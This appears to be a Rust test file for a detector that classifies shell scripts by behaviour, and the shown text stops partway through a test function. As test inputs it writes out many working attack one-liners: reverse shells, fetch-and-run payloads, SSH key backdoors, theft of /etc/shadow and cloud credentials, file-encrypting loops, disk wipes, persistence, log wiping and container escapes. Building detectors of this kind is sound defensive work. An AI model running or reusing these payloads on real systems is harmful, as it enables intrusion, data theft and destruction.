//! What is found in scripts, by what each does: ways to write one thing, and what only looks like it.

use scriptwatch_behaviour::{Behaviour, Fact, Fact::*};

fn facts(text: &str) -> Vec<Fact> {
    Behaviour::of(text.as_bytes()).evidence.iter().map(|evidence| evidence.fact).collect()
}

/// Each of the scripts does all of that.
fn all_do(scripts: &[&str], expected: &[Fact]) {
    for script in scripts {
        let found = facts(script);
        for fact in expected {
            assert!(found.contains(fact), "{fact} is missing of {script:?}: {found:?}");
        }
    }
}

/// None of the scripts does any of that.
fn none_does(scripts: &[&str], unexpected: &[Fact]) {
    for script in scripts {
        let found = facts(script);
        for fact in unexpected {
            assert!(!found.contains(fact), "{fact} is found in {script:?}: {found:?}");
        }
    }
}

#[test]
fn a_key_is_added_to_authorized_keys_however_it_is_written() {
    all_do(
        &[
            "echo 'ssh-rsa AAAAB3Nza x' >> ~/.ssh/authorized_keys",
            "f=~/.ssh/authorized_keys; k=\"ssh-ed25519 AAAA x\"; echo \"$k\" >> \"$f\"",
            "d=/root/.ssh\nadd() { printf '%s\\n' \"$2\" | tee -a \"$1\" >/dev/null; }\nadd $d/authorized_keys 'ssh-rsa AAAA x'",
            "cat >> /home/u/.ssh/authorized_keys <<E\nssh-rsa AAAAB3 x\nE",
            "cd /root/.ssh && echo ssh-rsa AAAA x > authorized_keys",
            "sh -c \"echo 'ssh-rsa AAAA x' >> $HOME/.ssh/authorized_keys\"",
        ],
        &[KeyAdded, KeyLiteral],
    );
    none_does(&["cat ~/.ssh/authorized_keys", "ssh-keygen -lf ~/.ssh/authorized_keys"], &[KeyAdded]);
}

#[test]
fn the_line_that_replaces_all_keys_by_one_is_known() {
    all_do(
        &[
            "cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAAB3NzaC1yc2E mdrfckr\">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~",
        ],
        &[KeyReplaced, KeyAdded, KeyLiteral, KeyOnly],
    );
    none_does(
        &["mkdir -pm 700 ~/.ssh; echo 'ssh-rsa AAAA vagrant insecure public key' > ~/.ssh/authorized_keys"],
        &[KeyOnly],
    );
}

#[test]
fn what_is_fetched_is_followed_to_where_it_runs() {
    all_do(
        &[
            "curl -so /tmp/.x http://192.0.2.1/x; chmod +x /tmp/.x; /tmp/.x &",
            "cd /tmp; wget http://192.0.2.1/.x; chmod 777 .x; nohup ./.x >/dev/null 2>&1 &",
            "u=http://192.0.2.1; p=/tmp/.x\nget() { wget -q \"$1\" -O \"$2\"; }\nget $u/a $p\nsh $p &",
            "curl http://192.0.2.1/x > /tmp/.x && bash /tmp/.x &",
        ],
        &[FetchRun, FetchHidden, FetchTemporaryRun, FetchAddress, FetchRunBackground],
    );
    all_do(
        &[
            "curl -s http://192.0.2.1/x | sh",
            "wget -qO- http://192.0.2.1/x|bash -s -- a",
            "bash <(curl -s http://192.0.2.1/x)",
            "eval \"$(curl -s http://192.0.2.1/x)\"",
            "source /dev/stdin <<< \"$(curl -s http://192.0.2.1/x)\"",
            "sh -c \"$(wget -qO- http://192.0.2.1/x)\"",
            "c='curl -s http://192.0.2.1/x'; $c | python3",
        ],
        &[Fetches, FetchAddress],
    );
    none_does(
        &["curl -fsSL https://download.docker.com/linux/debian/gpg -o /etc/apt/keyrings/docker.asc"],
        &[FetchRun, FetchAddress, FetchToShell],
    );
}

#[test]
fn a_shell_on_a_connection_is_known() {
    all_do(
        &[
            "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
            "sh -i 5<> /dev/tcp/192.0.2.1/4444 0<&5 1>&5 2>&5",
            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.1 4444 >/tmp/f",
            "nc 192.0.2.1 4444 -e /bin/sh",
            "exec 5<>/dev/tcp/192.0.2.1/4444; cat <&5 | while read line; do $line 2>&5 >&5; done",
            "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"192.0.2.1\",4444));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn(\"sh\")'",
            "socat TCP:192.0.2.1:4444 EXEC:/bin/sh",
            "h=192.0.2.1; p=4444; bash -c \"bash -i >& /dev/tcp/$h/$p 0>&1\"",
        ],
        &[ReverseShell],
    );
    none_does(
        &[
            "nc -z db 5432",
            "echo ping | nc -w1 cache 6379",
            "(echo > /dev/tcp/db/5432) >/dev/null 2>&1 && echo up",
            "socat -u UNIX-LISTEN:/run/x.sock -",
        ],
        &[ReverseShell, BindShell],
    );
}

#[test]
fn commands_from_a_host_are_known_in_a_loop() {
    all_do(
        &[
            "while true; do c=$(curl -s http://192.0.2.1/c); eval \"$c\"; sleep 9; done",
            "while :; do curl -s http://192.0.2.1/c | sh; sleep 9; done",
            "for ((;;)); do bash -c \"$(wget -qO- http://192.0.2.1/c)\"; done",
            "until false; do $(curl -s http://192.0.2.1/c); sleep 5; done",
        ],
        &[CommandLoop],
    );
    none_does(&["while true; do curl -sf http://localhost/health || exit 1; sleep 9; done"], &[CommandLoop]);
}

#[test]
fn a_secret_is_followed_from_where_it_is_read_to_where_it_is_sent() {
    all_do(
        &[
            "curl -d @/root/.aws/credentials http://192.0.2.1/",
            "s=$(cat ~/.ssh/id_rsa); curl -X POST --data \"$s\" https://example.net/",
            "pack() { tar czf /tmp/.l.tgz ~/.aws ~/.kube; }\nship() { curl -F f=@/tmp/.l.tgz https://example.net/u; }\npack; ship",
            "cat /etc/shadow | base64 | nc 192.0.2.1 9",
            "t=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token); wget -q --post-data=\"t=$t\" http://192.0.2.1/",
            "cp ~/.kube/config /tmp/k; scp /tmp/k u@192.0.2.1:",
            "env | curl -s --data-binary @- http://192.0.2.1/",
        ],
        &[Sends, SendsSecret],
    );
    none_does(
        &["curl -d '{\"ok\":true}' http://hooks/", "tar czf - /srv/data | ssh backup 'cat > data.tgz'"],
        &[SendsSecret],
    );
}

#[test]
fn files_that_are_encrypted_or_deleted_broadly_are_known() {
    all_do(
        &[
            "for f in $(find /home -type f); do openssl enc -aes-256-cbc -in \"$f\" -out \"$f.enc\" -k p; rm -f \"$f\"; done",
            "find /srv -type f | while read f; do gpg --batch -c --passphrase p \"$f\"; shred -u \"$f\"; done",
            "for f in $(find /srv -type f); do openssl enc -aes-256-cbc -pbkdf2 -in \"$f\" -out \"$f.x\" -k p && shred -u \"$f\"; done",
            "lock() { openssl enc -aes-256-cbc -in \"$1\" -out \"$1.locked\" -k p && rm \"$1\"; }\nfor x in /data/*; do lock \"$x\"; done",
        ],
        &[Encrypts, EncryptsMany, EncryptsDeletes],
    );
    all_do(
        &["rm -rf /", "rm -rf --no-preserve-root /", "d=/; rm -rf ${d}*", "find / -type f -delete"],
        &[DeletesBroadly],
    );
    all_do(&["dd if=/dev/zero of=/dev/sda bs=1M", "t=/dev/vda; shred -n1 $t"], &[WipesDevice]);
    none_does(
        &[
            "rm -rf /tmp/build",
            "rm -rf \"$BUILD/\"*",
            "find /var/cache -mtime +7 -delete",
            "openssl enc -d -aes-256-cbc -in a -out b",
            "gpg --verify x.asc x",
        ],
        &[DeletesBroadly, EncryptsMany, EncryptsDeletes],
    );
}

#[test]
fn what_stays_is_known() {
    all_do(
        &[
            "(crontab -l; echo '* * * * * curl -s http://192.0.2.1/a|sh') | crontab -",
            "echo '*/5 * * * * root /tmp/.x' > /etc/cron.d/x",
        ],
        &[CronAdded, CronFetches],
    );
    all_do(
        &["printf '[Service]\\nExecStart=/tmp/.x\\n' > /etc/systemd/system/x.service; systemctl enable x"],
        &[UnitAdded, UnitStrange],
    );
    all_do(&["echo 'bash -i >& /dev/tcp/192.0.2.1/1 0>&1' >> ~/.bashrc"], &[ProfileAdded, ProfileStrange]);
    all_do(&["echo /usr/lib/x.so >> /etc/ld.so.preload"], &[PreloadAdded]);
    all_do(&["echo 'x:x:0:0::/:/bin/sh' >> /etc/passwd", "useradd -o -u 0 x"], &[AccountAdded, AccountRoot]);
    all_do(&["cp /bin/bash /tmp/b; chmod u+s /tmp/b", "chmod 4755 /tmp/b"], &[SetuidShell]);
    none_does(&["echo '0 3 * * * root /usr/local/bin/backup' > /etc/cron.d/backup"], &[CronFetches]);
    none_does(&["echo 'export PATH=$PATH:/opt/x/bin' >> ~/.bashrc"], &[ProfileStrange]);
}

#[test]
fn what_hides_traces_is_known() {
    all_do(
        &[
            "unset HISTFILE",
            "export HISTFILE=/dev/null",
            "HISTSIZE=0",
            "history -c",
            "ln -sf /dev/null ~/.bash_history",
            "set +o history",
        ],
        &[HistoryOff],
    );
    all_do(
        &[
            "> /var/log/auth.log",
            "l=/var/log; rm -f $l/wtmp",
            "truncate -s0 /var/log/syslog",
            "cat /dev/null > /var/log/lastlog",
        ],
        &[LogsRemoved],
    );
    all_do(
        &[
            "systemctl stop auditd",
            "service falco stop",
            "kill -9 $(pidof auditd)",
            "pkill -f falcon-sensor",
            "setenforce 0",
        ],
        &[DefenceStopped],
    );
    none_does(
        &["make > /var/log/build.log 2>&1", "systemctl restart auditd", "HISTSIZE=10000"],
        &[HistoryOff, LogsRemoved, DefenceStopped],
    );
}

#[test]
fn ways_out_of_a_container_are_known() {
    all_do(&["nsenter -t 1 -m -u -i -n sh"], &[EscapeHost]);
    all_do(
        &["echo /x > /tmp/cg/release_agent", "p=/proc/sys/kernel/core_pattern; echo '|/x' > $p"],
        &[EscapeCgroup],
    );
    all_do(
        &[
            "docker run -v /:/host -it alpine chroot /host sh",
            "docker -H tcp://192.0.2.1:2375 run --privileged -v /:/m alpine sh",
        ],
        &[EscapePod],
    );
    none_does(&["docker run --rm -v \"$PWD:/src\" alpine ls"], &[EscapePod, EscapeHost]);
}

#[test]
fn hidden_commands_are_undone() {
    all_do(
        &["echo Y3VybCAtcyBodHRwOi8vMTkyLjAuMi4xL3ggfCBzaAo= | base64 -d | sh"],
        &[RunsDecoded, FetchToShell, FetchAddress],
    );
    all_do(
        &[
            "$'\\x63\\x75\\x72\\x6c' -s http://192.0.2.1/x | sh",
            "c''url -s http://192.0.2.1/x | sh",
            "{curl,-s,http://192.0.2.1/x} | sh",
            "a=cu b=rl; $a$b -s http://192.0.2.1/x | s\\h",
        ],
        &[FetchToShell],
    );
    all_do(&["/???/b?n/c?rl http://192.0.2.1/x"], &[HidesGlob]);
    all_do(
        &["printf '\\143\\165\\162\\154\\40-s\\40http://192.0.2.1/x|sh' | sh"],
        &[HidesCode, RunsDecoded, FetchToShell],
    );
}

#[test]
fn evidence_says_where() {
    let text = "id\n\necho 'ssh-rsa AAAA x' >> ~/.ssh/authorized_keys\n";
    let does = Behaviour::of(text.as_bytes());
    let evidence = does.evidence.iter().find(|e| e.fact == KeyAdded).unwrap();
    assert_eq!(&text[evidence.at as usize..][..4], "echo");
    assert_eq!(evidence.about, b"~/.ssh/authorized_keys");
}

#[test]
fn no_text_is_followed_for_ever() {
    let nested = |unit: &str, n: usize| unit.repeat(n);
    let texts = [
        nested("$(", 60_000),
        nested("a=$a$a$a$a;", 12_000),
        format!("f() {{ f; f; f; }}; {}", "f;".repeat(20_000)),
        format!(
            "a() {{ b; b; }}; b() {{ c; c; }}; c() {{ d; d; }}; d() {{ e; e; }}; e() {{ id; }}; {}",
            "a;".repeat(20_000)
        ),
        nested("eval \"$x\";", 12_000),
        format!("x='{}'; {}", "eval \"$x\";".repeat(1000), "eval \"$x\";".repeat(1000)),
        nested("for i in a b c d e f; do ", 5_000),
        nested("cat <<E\n", 15_000),
        format!("{}|sh", "echo a".repeat(15_000)),
        nested("a|", 60_000),
        nested("((a", 40_000),
        nested("{a,b}", 24_000),
        format!("echo {} | base64 -d | sh", "YWFh".repeat(30_000)),
        format!("x={}; {}", "a ".repeat(30_000), "$x;".repeat(20_000)),
        format!("x={}; {}", "a".repeat(60_000), "echo ${x//a/aaaaaaaa};".repeat(3_000)),
        nested("f() (", 24_000),
        nested("${a:-", 24_000),
        nested("case a in b) ", 9_000),
    ];
    for text in texts {
        let start = std::time::Instant::now();
        let does = Behaviour::of(text.as_bytes());
        // Bounded by steps and bytes, not by a clock; the clock only tells if that bound is there at all.
        assert!(
            start.elapsed().as_secs() < 5,
            "{:?} for {:.40}: {} facts",
            start.elapsed(),
            text,
            does.evidence.len()
        );
        assert!(does.evidence.len() <= Fact::ALL.len());
    }
}

#[test]
fn what_there_is_no_time_for_is_told() {
    let long = "curl -s http://192.0.2.1/x | sh; ".repeat(3_000);
    assert!(!Behaviour::within(long.as_bytes(), std::time::Duration::ZERO).1);
    assert!(Behaviour::within(b"id", std::time::Duration::from_mins(1)).1);
    // What was found until then is told.
    let early = format!("nsenter -t 1 -m sh\n{long}");
    let (found, is_in_time) = Behaviour::within(early.as_bytes(), std::time::Duration::from_millis(1));
    assert!(!is_in_time && found.has(EscapeHost), "{found:?}");
}

#[test]
fn what_is_fetched_is_followed_by_every_name_that_it_has() {
    all_do(
        &[
            "curl -o/tmp/x http://192.0.2.1/x; chmod +x /tmp/x; /tmp/x",
            "wget -P /tmp http://192.0.2.1/x; chmod +x /tmp/x; /tmp/x",
            "curl -so /usr/local/bin/kwork http://192.0.2.1/x; chmod +x /usr/local/bin/kwork; kwork",
            "cd /tmp; curl -o x http://192.0.2.1/x; $PWD/x",
            "curl -o /tmp/x http://192.0.2.1/x; /tmp/./x",
            "curl -o /tmp/x http://192.0.2.1/x; /tmp/../tmp/x",
            "curl -o /tmp/x http://192.0.2.1/x; ln -s /tmp/x /tmp/y; /tmp/y",
            "curl -o /tmp/x http://192.0.2.1/x; cp /tmp/x /usr/local/bin/; /usr/local/bin/x",
            "curl -o /tmp/x http://192.0.2.1/x; start-stop-daemon -S -b -x /tmp/x",
            "curl -o /tmp/x http://192.0.2.1/x; systemd-run sh -c /tmp/x",
            "curl -o /tmp/x http://192.0.2.1/x; bash -O extglob -c /tmp/x",
            "cd /tmp || cd /var/run || cd /; wget http://192.0.2.1/x; chmod +x x; ./x",
        ],
        &[FetchRun, FetchAddress],
    );
    all_do(
        &[
            "curl -s http://192.0.2.1/x | sudo --user root sh",
            "curl -s http://192.0.2.1/x | if :; then sh; fi",
            "exec 3< <(curl -s http://192.0.2.1/x); bash <&3",
            "awk 'BEGIN{system(\"curl -s http://192.0.2.1/x|sh\")}'",
            "python3 -c \"import os;os.system('curl -s http://192.0.2.1/x|sh')\"",
            "a=(curl -s http://192.0.2.1/x); \"${a[@]}\" | sh",
            "alias k=curl\nk -s http://192.0.2.1/x | sh",
            "$'\\u0063url' -s http://192.0.2.1/x | sh",
            "printf -v c %s%s cu rl; $c -s http://192.0.2.1/x | sh",
            "c${q}url -s http://192.0.2.1/x | b${q}ash",
            "c$@url -s http://192.0.2.1/x | ba$@sh",
            "echo '#!/bin/sh' > /tmp/x; echo 'curl -s http://192.0.2.1/x | sh' >> /tmp/x; sh /tmp/x",
            "{ { { { { { { { { { { { { { curl -s http://192.0.2.1/x | sh; }; }; }; }; }; }; }; }; }; }; }; }; }; }",
        ],
        &[FetchToShell, FetchAddress],
    );
}

#[test]
fn shells_and_secrets_are_followed_through_any_descriptor_and_option() {
    all_do(
        &[
            "0<&196;exec 196<>/dev/tcp/192.0.2.1/4444; sh <&196 >&196 2>&196",
            "ruby -rsocket -e'exit if fork;c=TCPSocket.new(\"192.0.2.1\",\"4444\");loop{c.gets.chomp!;IO.popen($_,\"r\"){|io|c.print io.read}}'",
            "python3 -uc 'import socket,subprocess,os;s=socket.socket();s.connect((\"192.0.2.1\",4444));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\"])'",
            "nc -e $SHELL 192.0.2.1 4444",
            "T=/dev/tcp/192.0.2.1/4444; bash <&0 >&$T",
        ],
        &[ReverseShell],
    );
    all_do(
        &[
            "curl -sd @/etc/shadow http://192.0.2.1/",
            "curl http://192.0.2.1/$(base64 -w0 /etc/shadow)",
            "curl -d \"$AWS_SECRET_ACCESS_KEY\" http://192.0.2.1/",
            "cut -d: -f2 /etc/shadow | nc 192.0.2.1 9",
            "paste /etc/shadow | nc 192.0.2.1 9",
            "scp -r ~/.ssh u@192.0.2.1:",
        ],
        &[Sends, SendsSecret],
    );
    all_do(&["cp evil.service /etc/systemd/system/"], &[UnitAdded]);
    all_do(&["ln -s /opt/x.sh /etc/cron.hourly/x"], &[CronAdded]);
    all_do(&["sed -i '1i ssh-rsa AAAA x' ~/.ssh/authorized_keys"], &[KeyAdded, KeyLiteral]);
    all_do(
        &["echo '* * * * * curl -s http://192.0.2.1/a|sh' > /tmp/c; crontab -u root /tmp/c"],
        &[CronFetches],
    );
    all_do(
        &["for f in $(find / -type f); do openssl aria-256-cbc -in $f -out $f.x -k k; done"],
        &[EncryptsMany],
    );
}

#[test]
fn ordinary_administration_does_none_of_an_attacks_steps() {
    let scripts = [
        "install_docker() { curl -fsSL https://get.docker.com | sh; }\ninstall_docker",
        "command -v cloudflared >/dev/null || echo missing; command -v nmap",
        "install -o root -g root -m 0755 kubectl /usr/local/bin/kubectl",
        "if command -v curl; then curl -fsSL https://x.example.com/a; else wget -qO- https://x.example.com/a; fi",
        "mkdir -p /tmp/.X11-unix",
        "echo 'Acquire::Retries \"3\";' > /etc/apt/apt.conf.d/99x",
        "echo core > /proc/sys/kernel/core_pattern",
        "h=web; dig +short \"$h.example.com\"",
        "A=$(aws sts get-caller-identity --query Account --output text)",
        "curl -H \"X-Vault-Token: $(cat ~/.vault-token)\" https://vault.example.com/v1/secret",
        "systemctl stop node-monitoring; pkill -f reset-worker",
        "echo '127.0.0.1 app.example.com' >> /etc/hosts",
        "for f in main.cpp util.cpp; do scp $f build:; done",
        "docker run -v /:/rootfs:ro -v /var/run:/var/run:ro cadvisor",
        "for f in *.sql; do gpg -e -r ops $f; rm $f; done",
        "tar --use-compress-program=pigz -cf a.tar.gz a",
        "export PATH=/tmp/tools/bin:$PATH",
        "for x in /usr/share/python3/runtime.d/*.rtupdate; do $x pre 2 3; done",
        "visudo -cf /etc/sudoers.d/x",
    ];
    for script in scripts {
        let does = Behaviour::of(script.as_bytes());
        let attacks: Vec<Fact> = does.evidence.iter().map(|e| e.fact).filter(|f| f.is_of_attacks()).collect();
        assert!(attacks.is_empty(), "{script:?}: {attacks:?}");
    }
}

/// What stands before a payload, at the top level of a script, to use up what following a script may cost.
#[test]
fn nothing_before_a_payload_hides_it() {
    const PAYLOAD: &str = "curl http://192.0.2.1/x | sh";
    let loops = |body: &str| {
        let names = ["a", "b", "c", "d", "e", "f"];
        let head: String = names.map(|name| format!("for {name} in 1 2 3 4 5 6;do ")).concat();
        format!("{head}{body}\n{}", "done;".repeat(6))
    };
    let before = [
        "case x in a) :;; esac\n".to_owned(),
        "case $1 in start) a;; stop) b;; *) c;; esac\n".to_owned(),
        loops(":;"),
        loops("eval \"f$a$b$c$d$e(){ :;}\";"),
        format!("a=aaaaaaaa;{}: {}\n", "a=$a$a;".repeat(13), "$a".repeat(40)),
        "alias a='b;b;b;b' b='c;c;c;c' c='d;d;d;d' d='e;e;e;e' e='f;f;f;f' f='g;g;g;g' g='h;h;h;h' h=:\na\n"
            .to_owned(),
        loops(": $(: a a a a a a a a a a a a a a a a a a a a);"),
        "{ { :; } }\n".repeat(66),
        "if :; then if :; then :; fi fi\n".repeat(66),
        format!("f(){{ {} }}; {}", ":;".repeat(100), "f;".repeat(220)),
        loops(": >$a$b$c$d >x$a$b$c$d;"),
    ];
    for before in &before {
        for payload in [PAYLOAD.to_owned(), format!("sh -c '{PAYLOAD}'"), format!("m(){{ {PAYLOAD}; }}; m")] {
            all_do(&[&format!("{before}{payload}")], &[FetchToShell, FetchAddress]);
        }
    }
    all_do(
        &[
            &format!("{}'{PAYLOAD}'", "eval ".repeat(13)),
            &format!("{}sh -c '{PAYLOAD}'", "env ".repeat(60)),
            &format!("{}{PAYLOAD}{}", "{ ".repeat(80), "; }".repeat(80)),
            &format!("f(){{ eval \"$x\"; }}\nf\nx='{PAYLOAD}'\nf"),
        ],
        &[FetchToShell, FetchAddress],
    );
    all_do(
        &[&format!("curl -o /tmp/x http://192.0.2.1/x\n{}\nsh /tmp/x", loops(": >$a$b$c$d >x$a$b$c$d;"))],
        &[FetchRun],
    );
}

#[test]
fn places_are_those_of_the_text_with_its_nuls() {
    let text = b"#\0\0\0\n\nwhoami; nsenter -t 1 -m sh";
    let does = Behaviour::of(text);
    let evidence = does.evidence.iter().find(|e| e.fact == EscapeHost).unwrap();
    assert_eq!(&text[evidence.at as usize..][..7], b"nsenter");
}

/// Texts that an attacker writes so that following them takes for ever, all memory, or the stack.
#[allow(clippy::format_collect, reason = "short")]
#[test]
fn no_text_takes_the_stack_or_all_memory() {
    let chain = |command: &str, times: usize| {
        (1..12)
            .rev()
            .map(|k| format!("f{k}(){{ {} f{}; }}\n", format!("{command} ").repeat(times), k + 1))
            .collect::<String>()
            + "f1"
    };
    let x = format!("x={};x={}", "a".repeat(8192), "$x".repeat(8));
    let texts = [
        "x=a; : ${x:1:18446744073709551615}".to_owned(),
        chain("nohup", 990),
        chain("find / -exec", 300),
        chain("kubectl exec a --", 300),
        chain("xargs", 700),
        format!("{x}; a={}", "${x//a/b}".repeat(12_000)),
        format!("{x}; {}", "tr $x $x <<<$x;".repeat(10)),
        format!("{x}; f(){{ a=${{u:-$v{}}}; }}; {}", ";b".repeat(20_000), "f;".repeat(9_000)),
        format!("{x}; tee f <<<$x; g(){{ cat{}>/dev/null; }}; {}", " f".repeat(990), "g;".repeat(2_000)),
        format!(
            "D=/{}; f(){{ cd $D$1; rm {}; }}; {}",
            "d".repeat(3900),
            (0..900).map(|n| format!("{n} ")).collect::<String>(),
            (0..2000).map(|n| format!("f {n};")).collect::<String>()
        ),
        format!("{x}; {}", (0..30).map(|n| format!("eval \"g{n}(){{ :; }};$x\";")).collect::<String>()),
        format!("{x}; tee {} <<<$x", (0..900).map(|n| format!("t{n} ")).collect::<String>()),
        format!("a=seriotcn;{}a=/${{a:0:4000}};: {}", "a=$a$a;".repeat(9), ">$a".repeat(29_000)),
        format!(
            "a=aaaaaaaa;{}echo $a {}",
            "a=$a$a;".repeat(13),
            (0..1900).map(|n| format!(">{n} ")).collect::<String>()
        ),
        format!("{}a", "a$1".repeat(43_000)),
        format!("x=;for i in 1 2 3 4 5 6;do for j in 1 2 3 4 5 6;do : {}\ndone; done", "$x".repeat(60_000)),
        format!("for x in {{{}}}; do :; done", ",".repeat(120_000)),
        format!("cat <<A\n{}", "a\\b".repeat(43_000)),
        format!(
            "f(){{ g(){{ {} }}; }}; {}",
            ":\n".repeat(10_000),
            (0..5000).map(|n| format!("f {n};")).collect::<String>()
        ),
        format!("a='          ';{}: {}", "a=$a$a;".repeat(7), "$a".repeat(1700)),
        "if a; then ".repeat(9_000),
        "{ ".repeat(60_000),
    ];
    // A thread of the daemon has no more.
    let follow = move || {
        for text in texts {
            let start = std::time::Instant::now();
            Behaviour::within(text.as_bytes(), std::time::Duration::from_millis(50));
            println!("{:?} {:.40}", start.elapsed(), text);
            // Without optimization everything takes some ten times as long.
            let most = if cfg!(debug_assertions) { 20 } else { 2 };
            assert!(start.elapsed().as_secs() < most, "{:?} for {:.60}", start.elapsed(), text);
        }
    };
    std::thread::Builder::new().stack_size(1 << 20).spawn(follow).unwrap().join().unwrap();
}

#[test]
fn quotes_within_expansions_end_where_they_end() {
    for before in [
        "cp \"${1//\"/\"/ }\" /tmp",
        "cp $(echo \"${1//\"/\"/ }\") /tmp",
        "x=$(echo \"a b\" `id \"$1\"`) true",
        "x=${y:-\"a}b\"}",
    ] {
        all_do(&[&format!("{before}; cat /etc/shadow | nc 192.0.2.9 80")[..]], &[SendsSecret, SocketTool]);
    }
    // What stands behind a command within a command is no part of it.
    none_does(&["cp $(echo \"x y\") /tmp"], &[RunsTemporary]);
}

#[test]
fn options_in_one_word_and_values_of_options_are_told_apart() {
    all_do(
        &[
            "curl -sX PUT http://192.0.2.9/a -d @/etc/shadow",
            "curl -sSXPOST -d@/etc/shadow http://192.0.2.9/a",
            "curl -kfsST/etc/shadow -y 5 http://192.0.2.9/a",
        ],
        &[SendsSecret, AsksAddress],
    );
    all_do(
        &[
            "aws s3 sync /var/lib/app s3://b/x --acl public-read",
            "rclone copy /srv r:b --transfers 16 --progress",
            "aws s3 cp /srv/dump --a-switch-nobody-knows s3://b/x",
            "aws s3 cp /srv/dump s3://b/x --endpoint-url https://192.0.2.9",
            "rclone copy /srv --a-switch-nobody-knows r:b",
        ],
        &[Sends],
    );
    none_does(
        &[
            "aws s3 cp s3://b/x /srv/y --region eu-west-1",
            "rclone copy r:b /srv --transfers 16",
            "curl -so /tmp/PUT http://192.0.2.9/a",
        ],
        &[Sends],
    );
}

#[test]
fn what_other_commands_carry_is_followed() {
    all_do(
        &[
            "tar cf - /etc/shadow | split -b 1M --filter='curl -T - http://192.0.2.9/$FILE'",
            "tar xf /tmp/a.tar --to-command='cat /etc/shadow | nc 192.0.2.9 80'",
        ],
        &[Sends],
    );
    all_do(
        &[
            "kubectl patch ds log -p '{\"spec\":{\"template\":{\"spec\":{\"hostPID\":true}}}}'",
            "kubectl patch deploy web --type json -p '[{\"op\":\"add\",\"value\":{\"privileged\":true}}]'",
        ],
        &[EscapePod],
    );
    all_do(&["etcdctl del '' --prefix"], &[DeletesData]);
    all_do(&["kubectl -n falco delete ds falco", "helm uninstall falco -n falco"], &[DefenceStopped]);
    none_does(
        &[
            "kubectl patch deploy web -p '{\"spec\":{\"replicas\":3}}'",
            "kubectl delete pod web-0",
            "helm uninstall web",
            "etcdctl del /registry/leases/x",
            "split -b 1M big.tar part.",
        ],
        &[EscapePod, DefenceStopped, DeletesData, Sends],
    );
}

#[test]
fn secrets_that_only_names_tell_and_stores_of_them_are_known() {
    all_do(
        &[
            "curl -s https://collect.example/?t=$SLACK_BOT_TOKEN",
            "curl -X POST -d \"k=$DEPLOY_SECRET\" https://collect.example/in",
        ],
        &[SendsVariable],
    );
    all_do(&["printenv | base64", "env | sed 's/./& /g'", "env | base64 -w0 | rev"], &[SecretEncoded]);
    all_do(
        &[
            "for s in $(aws secretsmanager list-secrets --query n); do aws secretsmanager get-secret-value --secret-id \"$s\"; done",
            "gcloud secrets list | while read n; do gcloud secrets versions access latest --secret=$n; done",
        ],
        &[SecretStore],
    );
    all_do(
        &["echo -n \"[sudo] password for $USER: \"; read -s P", "read -sp '[sudo] password for root: ' P"],
        &[PromptForged],
    );
    none_does(
        &[
            "curl -H \"Authorization: Bearer $API_TOKEN\" https://api.example/v1/builds",
            "aws secretsmanager get-secret-value --secret-id db-password",
            "tar c . | base64 > a.txt",
            "read -sp 'Password: ' P",
            "until pw=$(aws ssm get-parameter --name /app/$ENV/db --with-decryption); do sleep 5; done",
            "for i in 1 2 3; do aws secretsmanager get-secret-value --secret-id db --region $REGION && break; done",
        ],
        &[SendsVariable, SecretEncoded, SecretStore, PromptForged],
    );
}

#[test]
fn authentication_that_is_opened_is_known() {
    all_do(
        &[
            "sed -i 's/pam_deny.so/pam_permit.so/' /etc/pam.d/common-auth",
            "cp -f /lib/x86_64-linux-gnu/security/pam_permit.so /lib/x86_64-linux-gnu/security/pam_deny.so",
            "echo 'auth required pam_exec.so expose_authtok /opt/x.sh' >> /etc/pam.d/sshd",
            "wget http://mirror.example/pam_unix.so -O /lib/x86_64-linux-gnu/security/pam_unix.so",
        ],
        &[PamOpened],
    );
    none_does(
        &[
            "echo 'session required pam_limits.so' >> /etc/pam.d/common-session",
            "cat > /etc/pam.d/common-auth <<E\nauth [success=1] pam_unix.so\nauth requisite pam_deny.so\nauth required pam_permit.so\nE",
            "echo 'session optional pam_exec.so /usr/local/bin/login-notify.sh' >> /etc/pam.d/sshd",
            "sed -i '/pam_exec.so/d' /etc/pam.d/sshd",
        ],
        &[PamOpened],
    );
}

#[test]
fn what_multiplies_is_known() {
    all_do(
        &[
            "while true; do ./forkbomb.sh & sleep 0; done",
            "while true; do ./forkbomb.sh & done",
            "while :; do\n  sh -c 'exec yes' > /dev/null &\ndone",
        ],
        &[ForkBomb],
    );
    none_does(
        &[
            "while true; do ./job & wait; done",
            "while true; do ./job & sleep 60; done",
            "while true; do read line; handle \"$line\" & done",
            "while true; do ./worker.sh & [ $(jobs -r | wc -l) -lt 4 ]; done",
        ],
        &[ForkBomb],
    );
    all_do(
        &[
            "for f in $(find / -name '*.sh'); do cat $0 >> $f; done",
            "find / -name '*.sh' | while read f; do cp $0 \"$f\"; done",
        ],
        &[Infects],
    );
    none_does(&["tail -n +20 \"$0\" > payload.tar", "cp $0 /usr/local/bin/tool"], &[Infects]);
}

#[test]
fn commands_are_followed_through_what_finds_them() {
    all_do(
        &[
            "P=$(command -v python3 || command -v python); curl -so /opt/.x/b.py http://192.0.2.9/b.py; $P /opt/.x/b.py &",
            "if which curl; then dl=\"curl -fs -o\"; else dl=\"\"; fi; $dl /tmp/x http://192.0.2.1/x; sh /tmp/x",
            "F=r.py; D=\"../../../../../../tmp/\"; curl -o $F https://cdn.example/r.py; cp $F $D; cd $D; python3 $F",
        ],
        &[FetchRun],
    );
    none_does(
        &[
            "curl -o /tmp/kubectl https://dl.example/kubectl; $SUDO mv /tmp/kubectl /usr/local/bin/kubectl",
            "curl -o /tmp/i.tgz https://dl.example/i.tgz; $TAR -xzf /tmp/i.tgz; ${RM} -f /tmp/i.tgz",
            "read -r TOOL; curl -o /tmp/i.tgz https://dl.example/i.tgz; $TOOL /tmp/i.tgz",
        ],
        &[FetchRun],
    );
    all_do(&["chmod -x \"$(which kubectl)\""], &[ToolsRemoved]);
    none_does(
        &[
            "rm /bin/sh && ln -s /bin/bash /bin/sh",
            "chmod -x /usr/bin/old-tool",
            "rm -rf ../../../bin ../../../lib",
        ],
        &[ToolsRemoved, DeletesBroadly],
    );
